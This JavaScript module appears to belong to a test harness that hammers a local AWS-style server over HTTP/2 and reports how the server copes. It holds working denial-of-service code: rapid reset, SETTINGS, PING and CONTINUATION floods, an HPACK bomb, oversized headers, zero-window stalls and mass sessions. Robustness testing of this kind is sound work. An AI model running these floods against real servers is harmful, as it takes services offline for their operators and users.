// Phase 4: HTTP/2 abuse on the AWS port (h2c), each attack bounded in time and bytes: many
// streams whose bodies never end (on a few sessions), rapid reset (HEADERS then RST_STREAM, CVE-2023-44487), SETTINGS
// and PING floods from a peer that never reads (CVE-2019-9515, -9512), a CONTINUATION flood
// (CVE-2024-27983), one huge header, an HPACK bomb (a dynamic-table entry referenced thousands of
// times), a zero flow-control window under many requests, and many sessions at once. Reported per
// attack: what was sent, how the server ended it (GOAWAY code, close), what it answered.
import { FLAG, H2_ERRORS, PREFACE, TYPE, awsRequestBlock, frame, headerBlock, rawH2, settingsFrame } from './h2-frames.mjs';

const WRITE_CHUNK_BYTES = 64 * 1024;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/**
 * Writes chunks from `next()` (null: nothing more) while the socket takes them, until `untilMs`,
 * `maxBytes` or the close; returns the bytes written. Never queues more than the kernel took.
 */
async function pump(conn, next, untilMs, maxBytes) {
  let sent = 0;
  while (Date.now() < untilMs && sent < maxBytes && conn.closedAt === null && !conn.socket.destroyed) {
    const chunk = next();
    if (chunk === null) break;
    sent += chunk.length;
    if (!conn.write(chunk)) {
      const drained = await Promise.race([new Promise((r) => conn.socket.once('drain', () => r(true))), conn.closed.then(() => false), sleep(Math.max(0, untilMs - Date.now())).then(() => false)]);
      if (!drained) break;
    }
  }
  return sent;
}

/** Opens a raw h2c connection with its preface and an empty SETTINGS. */
async function connect(port, track, options = {}) {
  const conn = rawH2(port, options);
  track(conn);
  await Promise.race([conn.opened, conn.closed]);
  conn.write(Buffer.concat([PREFACE, settingsFrame(options.settings ?? [])]));
  return conn;
}

/** How a connection ended, for the report. */
function ending(conn, startedMs) {
  return {
    closedByServerAfterMs: conn.closedAt === null ? null : conn.closedAt - startedMs,
    goaway: conn.goaway === null ? null : (H2_ERRORS[conn.goaway] ?? conn.goaway),
    responses: conn.responses,
    resets: conn.resets,
  };
}

const ATTACKS = {
  /**
   * HEADERS and one DATA byte on 5,000 streams on each of 4 sessions, never ended: each holds a
   * request open. Reported: how many the server took (not reset) and what they cost it.
   */
  async openStreams({ port, track, untilMs, authority, server }) {
    const t0 = Date.now();
    const rss0 = server.rssBytes();
    const block = awsRequestBlock(authority, 'Kinesis_20131202.PutRecord', { 'content-length': '100' });
    const conns = [];
    let sent = 0;
    for (let s = 0; s < 4 && Date.now() < untilMs; s++) {
      const conn = await connect(port, track);
      conns.push(conn);
      let id = 1;
      await pump(conn, () => (id > 10_000 ? null : Buffer.concat(Array.from({ length: 100 }, () => [frame(TYPE.HEADERS, FLAG.END_HEADERS, id, block), frame(TYPE.DATA, 0, (id += 2) - 2, Buffer.from('{'))]).flat())), untilMs, 16 << 20);
      sent += Math.floor((id - 1) / 2);
    }
    await sleep(Math.min(1000, Math.max(0, untilMs - Date.now())));
    const resets = conns.reduce((n, c) => n + c.resets, 0);
    const held = sent - resets;
    const grew = (server.rssBytes() ?? 0) - (rss0 ?? 0);
    const out = { sessions: conns.length, streamsOpened: sent, streamsResetByServer: resets, streamsHeld: held, rssGrowthMB: Math.round(grew / 1e5) / 10, bytesPerHeldStream: held > 0 ? Math.round(grew / held) : null, goaways: conns.filter((c) => c.goaway !== null).map((c) => H2_ERRORS[c.goaway] ?? c.goaway), closedByServer: conns.filter((c) => c.closedAt !== null).length };
    for (const c of conns) c.destroy();
    return out;
  },

  /** HEADERS then RST_STREAM(CANCEL) on every stream, reconnecting when the server closes. */
  async rapidReset({ port, track, untilMs, authority }) {
    const t0 = Date.now();
    const block = awsRequestBlock(authority, 'Kinesis_20131202.DescribeStreamSummary', { 'content-length': '2' });
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(8); // CANCEL
    let pairs = 0;
    const endings = {};
    let connections = 0;
    while (Date.now() < untilMs && connections < 50 && pairs < 2_000_000) {
      const conn = await connect(port, track);
      connections++;
      let id = 1;
      await pump(conn, () => (id > 2 ** 31 - 2000 ? null : Buffer.concat(Array.from({ length: 200 }, () => ((pairs++, (id += 2)), [frame(TYPE.HEADERS, FLAG.END_HEADERS, id - 2, block), frame(TYPE.RST_STREAM, 0, id - 2, rst)])).flat())), untilMs, 256 << 20);
      await Promise.race([conn.closed, sleep(200)]);
      const how = conn.closedAt === null ? 'still open' : `closed, GOAWAY ${conn.goaway === null ? 'none' : (H2_ERRORS[conn.goaway] ?? conn.goaway)}`;
      endings[how] = (endings[how] ?? 0) + 1;
      conn.destroy();
    }
    return { pairsSent: pairs, connections, endings, ms: Date.now() - t0 };
  },

  /** SETTINGS frames, never reading the ACKs. */
  async settingsFlood({ port, track, untilMs }) {
    const t0 = Date.now();
    const conn = await connect(port, track, { read: false });
    const chunk = Buffer.concat(Array.from({ length: 1000 }, () => settingsFrame([[4, 65535]])));
    const sent = await pump(conn, () => chunk, untilMs, 256 << 20);
    await Promise.race([conn.closed, sleep(Math.min(1000, Math.max(0, untilMs - Date.now())))]);
    const out = { framesSent: Math.floor(sent / 15), ...ending(conn, t0) };
    conn.destroy();
    return out;
  },

  /** PING frames, never reading the ACKs. */
  async pingFlood({ port, track, untilMs }) {
    const t0 = Date.now();
    const conn = await connect(port, track, { read: false });
    const chunk = Buffer.concat(Array.from({ length: 1000 }, () => frame(TYPE.PING, 0, 0, Buffer.alloc(8))));
    const sent = await pump(conn, () => chunk, untilMs, 256 << 20);
    await Promise.race([conn.closed, sleep(Math.min(1000, Math.max(0, untilMs - Date.now())))]);
    const out = { framesSent: Math.floor(sent / 17), ...ending(conn, t0) };
    conn.destroy();
    return out;
  },

  /** A HEADERS frame without END_HEADERS, then CONTINUATION frames without end. */
  async continuationFlood({ port, track, untilMs, authority }) {
    const t0 = Date.now();
    const conn = await connect(port, track);
    conn.write(frame(TYPE.HEADERS, 0, 1, awsRequestBlock(authority, 'Kinesis_20131202.ListStreams')));
    let n = 0;
    const cont = frame(TYPE.CONTINUATION, 0, 1, headerBlock(Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`x-c${i}`, 'v'.repeat(150)]))));
    const sent = await pump(conn, () => (n++, cont), untilMs, 64 << 20);
    await Promise.race([conn.closed, sleep(500)]);
    const out = { continuationFrames: n, bytesSent: sent, ...ending(conn, t0) };
    conn.destroy();
    return out;
  },

  /** One request whose single header value is 1 MiB (HEADERS + CONTINUATIONs). */
  async hugeHeader({ port, track, authority }) {
    const t0 = Date.now();
    const conn = await connect(port, track);
    const block = Buffer.concat([awsRequestBlock(authority, 'Kinesis_20131202.ListStreams', { 'content-length': '2' }), headerBlock({ 'x-huge': 'h'.repeat(1 << 20) })]);
    const parts = [];
    for (let at = 0; at < block.length; at += 16384) parts.push(block.subarray(at, at + 16384));
    parts.forEach((p, i) => conn.write(frame(i === 0 ? TYPE.HEADERS : TYPE.CONTINUATION, i === parts.length - 1 ? FLAG.END_HEADERS : 0, 1, p)));
    conn.write(frame(TYPE.DATA, FLAG.END_STREAM, 1, Buffer.from('{}')));
    await Promise.race([conn.closed, sleep(1500)]);
    const out = { headerBytes: block.length, ...ending(conn, t0) };
    conn.destroy();
    return out;
  },

  /** A 4 KB header put in the dynamic table once, then referenced 16,000 times in one block. */
  async hpackBomb({ port, track, authority }) {
    const t0 = Date.now();
    const conn = await connect(port, track);
    const name = Buffer.from('x-bomb');
    const value = Buffer.from('b'.repeat(4000));
    const indexed = Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from([0x7f, (value.length - 127) % 128 + 128, Math.floor((value.length - 127) / 128)]), value]);
    const block = Buffer.concat([awsRequestBlock(authority, 'Kinesis_20131202.ListStreams', { 'content-length': '2' }), indexed, Buffer.alloc(16_000, 0xbe)]);
    conn.write(frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, block.subarray(0, 16384)));
    for (let at = 16384; at < block.length; at += 16384) conn.write(frame(TYPE.CONTINUATION, at + 16384 >= block.length ? FLAG.END_HEADERS : 0, 1, block.subarray(at, at + 16384)));
    conn.write(frame(TYPE.DATA, FLAG.END_STREAM, 1, Buffer.from('{}')));
    await Promise.race([conn.closed, sleep(1500)]);
    const out = { decodedBytesClaimed: 16_000 * (4000 + 6 + 32), ...ending(conn, t0) };
    conn.destroy();
    return out;
  },

  /** A zero initial window, then 5,000 complete requests: the server may not send their bodies. */
  async zeroWindow({ port, track, untilMs, authority }) {
    const t0 = Date.now();
    const conn = await connect(port, track, { settings: [[4, 0]] });
    const block = awsRequestBlock(authority, 'Kinesis_20131202.DescribeStreamSummary', { 'content-length': '20' });
    let id = 1;
    await pump(conn, () => (id > 10_000 ? null : Buffer.concat(Array.from({ length: 100 }, () => ((id += 2), [frame(TYPE.HEADERS, FLAG.END_HEADERS, id - 2, block), frame(TYPE.DATA, FLAG.END_STREAM, id - 2, Buffer.from('{"StreamName":"fuzz"}'.slice(0, 20)))])).flat())), untilMs, 16 << 20);
    await Promise.race([conn.closed, sleep(Math.min(1500, Math.max(0, untilMs - Date.now())))]);
    const out = { requests: Math.floor((id - 1) / 2), ...ending(conn, t0) };
    conn.destroy();
    return out;
  },

  /** 1,000 sessions opened at once, each with its preface, held. */
  async manySessions({ port, track, untilMs }) {
    const t0 = Date.now();
    const conns = await Promise.all(Array.from({ length: 1000 }, () => connect(port, track)));
    await sleep(Math.min(1500, Math.max(0, untilMs - Date.now())));
    const closed = conns.filter((c) => c.closedAt !== null).length;
    for (const c of conns) c.destroy();
    return { sessions: conns.length, closedByServer: closed, ms: Date.now() - t0 };
  },
};

export async function h2Abuse({ server, deadline, track }) {
  const names = Object.keys(ATTACKS);
  const attacks = {};
  const authority = `127.0.0.1:${server.port}`;
  for (let i = 0; i < names.length; i++) {
    const sliceMs = Math.max(500, (deadline - Date.now()) / (names.length - i));
    const untilMs = Date.now() + sliceMs;
    const rssBefore = server.rssBytes();
    const from = Date.now();
    try {
      attacks[names[i]] = await ATTACKS[names[i]]({ port: server.port, track, untilMs, authority, server });
    } catch (err) {
      attacks[names[i]] = { attackerError: String(err?.stack ?? err).slice(0, 300) };
    }
    attacks[names[i]].serverRssMB = [rssBefore, server.rssBytes()].map((b) => (b === null ? null : Math.round(b / 1e5) / 10));
    attacks[names[i]].window = [from, Date.now()]; // the report takes the normal client's calls in it
    if (!server.alive()) break;
  }
  const tried = (a) => (a.streamsOpened ?? 0) + (a.pairsSent ?? 0) + (a.framesSent ?? 0) + (a.continuationFrames ?? 0) + (a.requests ?? 0) + (a.streamsOpened === undefined ? (a.sessions ?? 0) : 0) + (a.headerBytes === undefined ? 0 : 1) + (a.decodedBytesClaimed === undefined ? 0 : 1);
  const requests = Object.values(attacks).reduce((n, a) => n + tried(a), 0);
  return { requests, attacks };
}
